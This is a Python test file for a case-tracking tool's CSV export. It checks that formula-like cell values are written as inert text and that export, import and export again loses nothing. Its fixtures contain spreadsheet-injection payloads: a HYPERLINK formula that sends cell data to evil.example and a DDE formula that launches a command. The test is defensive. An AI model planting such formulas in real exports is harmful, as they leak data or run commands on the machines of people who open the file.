"""The CSV export: formula text written as text, and export -> import -> export lossless."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from havenwatch.access.scope import Scope
from havenwatch.cases.case_files import add_case
from havenwatch.cases.csv_export import events_csv
from havenwatch.cases.csv_import import import_csv_rows
from havenwatch.cases.events import add_event, add_event_source
from havenwatch.cases.interchange import export_document
from havenwatch.cases.people import add_person
from havenwatch.cases.sheet_import import parse_file
from havenwatch.cli import cli
from havenwatch.core.model import Case, Event, Identity, Person, Source
from havenwatch.core.settings import Settings, resolve_settings
from havenwatch.operations.instance import initialise
from havenwatch.store.database import Database

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1,"Ann ""Nick"" Smith")'
HOSTILE_NOTES = (
    '-2+3, "told to leave", within 30 days\n'
    "@SUM(A1:A9);\tsecond line\r\n"
    "=cmd|' /C calc'!A0\n"
    "'quoted, kept"
)


def _tricky_case(db: Database) -> None:
    person = add_person(
        db,
        Person(pseudonym="@Heron", identity=Identity(full_name=HOSTILE_NAME), nationality="RU"),
        "test",
        scope=Scope.everything(),
    )
    case = add_case(
        db, Case(person_id=person.id or "", country="RS"), "test", scope=Scope.everything()
    )
    first = add_event(
        db,
        Event(case_id=case.id or "", type="expulsion_order", notes=HOSTILE_NOTES),
        "test",
        scope=Scope.everything(),
    )
    add_event_source(
        db,
        first.id or "",
        Source(url="https://news.example.org/a,b"),
        "test",
        scope=Scope.everything(),
    )
    add_event(
        db,
        Event(case_id=case.id or "", type="entry_ban", notes='Ann "Nick" Smith, +381 11 123'),
        "test",
        scope=Scope.everything(),
    )


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_export_writes_formula_text_with_a_leading_quote(
    db: Database, instance_settings: Settings, tmp_path: Path
) -> None:
    _tricky_case(db)
    target = tmp_path / "export.csv"
    result = CliRunner().invoke(
        cli,
        [
            "--data-dir", str(instance_settings.data_dir),
            "--database-url", instance_settings.database_url,
            "--key-file", str(instance_settings.key_file),
            "export", "--format", "csv", "--output", str(target),
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = _cells(target.read_bytes().decode())
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HOSTILE_NAME}" in cells and "'@Heron" in cells and f"'{HOSTILE_NOTES}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_import_export_keeps_quotes_commas_line_breaks_and_formula_text(
    db: Database, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    _tricky_case(db)
    first = events_csv(export_document(db, "test"))
    path = tmp_path / "export.csv"
    path.write_text(first, encoding="utf-8")
    url = request.getfixturevalue("new_postgres_url")() if db.is_postgres else None
    other = initialise(resolve_settings(tmp_path / "other", url, tmp_path / "other-keys" / "k.key"))
    import_csv_rows(other, parse_file(path), "test", scope=Scope.everything())
    document = export_document(other, "test")
    (person,) = document["people"]
    assert (person["pseudonym"], person["identity"]["full_name"]) == ("@Heron", HOSTILE_NAME)
    assert sorted(event["notes"] for event in document["events"]) == sorted(
        [HOSTILE_NOTES, 'Ann "Nick" Smith, +381 11 123']
    )
    again = _cells(events_csv(document))
    assert again[0] == _cells(first)[0] and sorted(again[1:]) == sorted(_cells(first)[1:])
    other.dispose()
